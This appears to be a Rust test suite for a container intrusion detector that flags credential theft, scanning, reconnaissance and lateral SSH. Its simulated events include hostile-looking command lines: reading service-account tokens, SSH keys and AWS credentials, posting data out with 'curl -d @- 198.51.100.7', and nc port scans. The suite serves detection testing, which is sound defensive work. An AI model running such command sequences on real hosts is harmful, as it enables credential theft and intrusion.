//! Steps of an intruder, and services that do the same for a living.

use super::super::play::{Play, Start};
use super::*;
use crate::detect::technique::{T1021_004, T1550_001, T1552_001, T1552_004};
use crate::event::wire::protocol::Protocol;

const TOKEN: &str = "/run/secrets/kubernetes.io/serviceaccount/..2026_11_23_02_00_00.1/token";

fn play_of(main: &str) -> Play {
    Play::of(Box::new(Lateral::new(Bounds::default())), main)
}

fn ids(play: &mut Play) -> Vec<(String, Severity)> {
    play.take()
}

fn one(id: &str, severity: Severity) -> Vec<(String, Severity)> {
    vec![(id.to_owned(), severity)]
}

#[test]
fn a_token_that_is_read_and_used_by_hand() {
    let mut play = play_of("/bin/sh");
    play.run(11, 10, "/bin/cat", "cat token");
    play.open(11, TOKEN);
    play.run(12, 10, "/usr/bin/curl", "curl https://10.96.0.1");
    play.connect(12, "10.96.0.1:443", true);
    assert_eq!(play.found.first().map(|found| found.techniques.contains(&T1550_001)), Some(true));
    assert!(play.found[0].confidence > 0.9 && play.found[0].evidence.len() == 3, "{:?}", play.found[0]);
    assert_eq!(ids(&mut play), one("credential-read-and-used", Severity::Critical));
    play.connect(12, "10.96.0.1:443", true);
    assert_eq!(ids(&mut play), [], "told once");
}

#[test]
fn other_ways_to_the_same() {
    // A shell reads it by itself, and a tool uses it later.
    let mut slow = play_of("/app/server");
    slow.run(11, 10, "/bin/bash", "bash /script");
    slow.start(Start {
        pid: 12,
        parent: 11,
        exe: "/bin/bash",
        args: &["bash", "-c", "read token"],
        ..Start::default()
    });
    slow.open(12, TOKEN);
    slow.run(13, 12, "/bin/busybox", "sleep 2");
    slow.wait(2);
    slow.run(14, 12, "/bin/busybox", "nc -w 1 10.96.0.1 443");
    slow.connect(14, "10.96.0.1:443", false);
    assert_eq!(ids(&mut slow), one("credential-read-and-used", Severity::Critical));
    // A dropped program does both, at an address that only looks like it.
    let mut dropped = play_of("/app/server");
    dropped.start(Start { pid: 11, parent: 10, exe: "/tmp/x", upper: true, ..Start::default() });
    dropped.open(11, TOKEN);
    dropped.connect(11, "10.0.0.1:6443", false);
    assert_eq!(ids(&mut dropped), one("credential-read-and-used", Severity::Critical));
    // A script in memory, which names the server in TLS.
    let mut inline = play_of("/app/server");
    inline.start(Start {
        pid: 11,
        parent: 10,
        exe: "/usr/bin/python3.12",
        args: &["python3", "-c", "x"],
        ..Start::default()
    });
    inline.open(11, TOKEN);
    inline.speak(11, "192.0.2.9:9443", Protocol::Tls, Some("kubernetes.default.svc"));
    assert_eq!(ids(&mut inline), one("credential-read-and-used", Severity::Critical));
    // Entered from outside, read by the shell itself, taken away.
    let mut away = play_of("/app/server");
    away.start(Start { pid: 11, parent: 2, vpid: 40, exe: "/bin/sh", ..Start::default() });
    away.open(11, TOKEN);
    away.run(12, 11, "/usr/bin/curl", "curl -d @- 198.51.100.7");
    away.connect(12, "198.51.100.7:80", true);
    assert_eq!(ids(&mut away), one("credential-read-and-used", Severity::High));
}

#[test]
fn keys_of_ssh() {
    let mut play = play_of("/app/server");
    play.run(11, 10, "/bin/sh", "sh");
    play.run(12, 11, "/bin/cat", "cat /root/.ssh/id_rsa");
    play.open(12, "/root/.ssh/id_rsa");
    play.run(13, 11, "/usr/bin/ssh", "ssh 10.1.0.9");
    play.connect(13, "10.1.0.9:22", true);
    assert_eq!(play.found[0].techniques, [T1552_004, T1552_001, T1021_004]);
    assert_eq!(ids(&mut play), one("credential-read-and-used", Severity::High));
}

#[test]
fn the_containers_own_programs_use_what_is_theirs() {
    let mut operator = play_of("/manager");
    operator.open(10, TOKEN);
    operator.connect(10, "10.96.0.1:443", true);
    operator.is_quiet();
    // An entry point that stays, a supervisor: their children are services still.
    operator.run(11, 10, "/usr/bin/worker", "worker");
    operator.open(11, TOKEN);
    operator.connect(11, "10.96.0.1:443", true);
    let mut python = play_of("/usr/bin/python3.12");
    python.open(10, TOKEN);
    python.connect(10, "10.96.0.1:443", true);
    python.is_quiet();
    operator.is_quiet();
    let mut job = play_of("/bin/sh");
    job.run(11, 10, "/usr/bin/kubectl", "kubectl get pods");
    job.open(11, TOKEN);
    job.connect(11, "10.96.0.1:443", true);
    job.run(12, 10, "/usr/bin/git", "git clone");
    job.run(13, 12, "/usr/bin/ssh", "ssh git@10.2.3.4");
    job.open(13, "/root/.ssh/id_ed25519");
    job.connect(13, "10.2.3.4:22", true);
    job.is_quiet();
}

#[test]
fn credentials_of_many_kinds() {
    let mut play = play_of("/app/server");
    play.run(11, 10, "/bin/sh", "sh");
    for (pid, path) in
        [(12, TOKEN), (13, "/root/.aws/credentials"), (14, "/root/.ssh/id_rsa"), (15, "/root/.kube/config")]
    {
        play.run(pid, 11, "/bin/cat", "cat");
        play.open(pid, path);
    }
    assert_eq!(ids(&mut play), one("credentials-collected", Severity::High));
    let mut backup = play_of("/usr/bin/restic");
    for path in [TOKEN, "/data/.aws/credentials", "/data/.ssh/id_rsa", "/data/.kube/config"] {
        backup.open(10, path);
    }
    backup.is_quiet();
}

#[test]
fn scans_by_many_short_processes_and_what_they_find() {
    let mut play = play_of("/app/server");
    play.run(11, 10, "/bin/sh", "sh");
    for last in 1..40 {
        play.run(20 + last, 11, "/bin/nc", "nc -z");
        play.connect(20 + last, &format!("10.1.0.{last}:6379"), last == 30);
    }
    assert_eq!(ids(&mut play), one("network-scanned", Severity::High));
    play.run(90, 11, "/usr/bin/redis-cli", "redis-cli -h 10.1.0.30");
    play.speak(90, "10.1.0.30:6379", Protocol::Redis, None);
    assert_eq!(ids(&mut play), one("scanned-service-used", Severity::Critical));
}

#[test]
fn monitoring_talks_to_many() {
    let mut play = play_of("/bin/prometheus");
    for turn in 0..2_000 {
        play.connect(10, &format!("10.1.{}.{}:9100", turn % 2, turn % 250), turn % 9 != 0);
    }
    play.is_quiet();
}

#[test]
fn looking_around() {
    let mut play = play_of("/app/server");
    play.run(11, 10, "/bin/sh", "sh");
    for (pid, line) in [
        (12, "id"),
        (13, "uname -a"),
        (14, "hostname"),
        (15, "env"),
        (16, "mount"),
        (17, "cat /proc/1/cgroup"),
    ] {
        play.run(pid, 11, "/bin/busybox", line);
    }
    assert_eq!(ids(&mut play), one("surroundings-explored", Severity::Medium));
    let mut admin = play_of("/app/server");
    admin.start(Start { pid: 11, parent: 2, vpid: 40, exe: "/bin/sh", terminal: true, ..Start::default() });
    for (pid, name) in [(12, "id"), (13, "uname"), (14, "env"), (15, "mount"), (16, "ps"), (17, "ip")] {
        let exe = format!("/usr/bin/{name}");
        admin.start(Start { pid, parent: 11, exe: &exe, terminal: true, ..Start::default() });
    }
    assert_eq!(ids(&mut admin), one("surroundings-explored", Severity::Low));
    let mut entry = play_of("/bin/sh");
    for (pid, line) in [(12, "id"), (13, "uname -a"), (14, "hostname"), (15, "env")] {
        entry.run(pid, 10, "/bin/busybox", line);
    }
    entry.is_quiet();
}

#[test]
fn a_second_name() {
    let mut play = play_of("/app/server");
    play.run(11, 10, "/bin/cat", "cat /tmp/x");
    play.open(11, "/tmp/x");
    play.is_quiet();
    play.run(12, 10, "/bin/busybox", "ln");
    play.link(12, "/root/.aws/credentials", "/tmp/x");
    assert_eq!(play.take(), [], "a rule tells that");
    play.open(11, "/tmp/x");
    assert_eq!(play.take(), one("credential-under-another-name", Severity::High));
    let mut writer = play_of("/usr/bin/aws");
    writer.link(10, "/root/.aws/credentials.1", "/root/.aws/credentials");
    writer.link(10, "/root/.aws/credentials", "/root/.aws/credentials.old");
    writer.is_quiet();
}

#[test]
fn ssh_to_others() {
    let mut spoken = play_of("/app/server");
    spoken.start(Start { pid: 11, parent: 10, exe: "/opt/x", upper: true, ..Start::default() });
    spoken.connect(11, "10.1.0.9:2022", true);
    spoken.speak(11, "10.1.0.9:2022", Protocol::Ssh, None);
    assert_eq!(spoken.take(), one("ssh-to-other-machines", Severity::High));
    let mut many = play_of("/bin/sh");
    for last in 1..9 {
        many.run(11 + last, 10, "/usr/bin/ssh", "ssh");
        many.connect(11 + last, &format!("10.1.0.{last}:22"), true);
    }
    assert_eq!(many.take(), one("ssh-to-other-machines", Severity::High));
    let mut key = play_of("/bin/sh");
    key.run(11, 10, "/usr/bin/ssh", "ssh 10.1.0.1");
    key.open(11, "/root/.ssh/id_rsa");
    key.connect(11, "10.1.0.1:22", true);
    assert_eq!(key.take(), one("credential-read-and-used", Severity::High));
}

#[test]
fn a_program_that_is_brought_along() {
    let mut play = play_of("/app/server");
    play.start(Start { pid: 11, parent: 2, vpid: 40, exe: "/bin/sh", ..Start::default() });
    play.start(Start { pid: 12, parent: 11, exe: "/tmp/x", upper: true, ..Start::default() });
    assert_eq!(play.take(), one("program-brought-along-by-hand", Severity::Medium));
    play.start(Start { pid: 13, parent: 10, exe: "/tmp/x", upper: true, ..Start::default() });
    play.is_quiet();
    // A debugger builds what it debugs.
    let mut debugged = play_of("/app/server");
    debugged.start(Start { pid: 11, parent: 2, vpid: 40, exe: "/bin/sh", ..Start::default() });
    debugged.start(Start { pid: 12, parent: 11, exe: "/usr/local/bin/dlv", ..Start::default() });
    debugged.start(Start { pid: 13, parent: 12, exe: "/src/__debug_bin", upper: true, ..Start::default() });
    debugged.is_quiet();
}

#[test]
fn memory_is_bounded() {
    let mut play = Play::new(Box::new(Lateral::new(Bounds { entries_max: 64 })));
    for turn in 0..3_000_u64 {
        play.cgroup = 100 + turn;
        play.container(play.cgroup);
        play.connect(2, &format!("10.{}.{}.1:80", turn / 250, turn % 250), false);
    }
    assert_eq!(play.behaviour.table().entries, 16);
    let mut play = play_of("/app/server");
    let flood = |play: &mut Play, turns: std::ops::Range<u32>| {
        for turn in turns {
            play.run(100 + turn, 10, "/bin/cat", "cat /proc/1/cgroup");
            play.open(100 + turn, TOKEN);
            play.connect(100 + turn, &format!("10.{}.{}.1:{}", turn / 250, turn % 250, turn), false);
            play.found.clear();
        }
        play.memory()
    };
    let before = flood(&mut play, 0..8_000);
    let after = flood(&mut play, 8_000..16_000);
    assert!(after < before + before / 10, "{before} {after}");
}
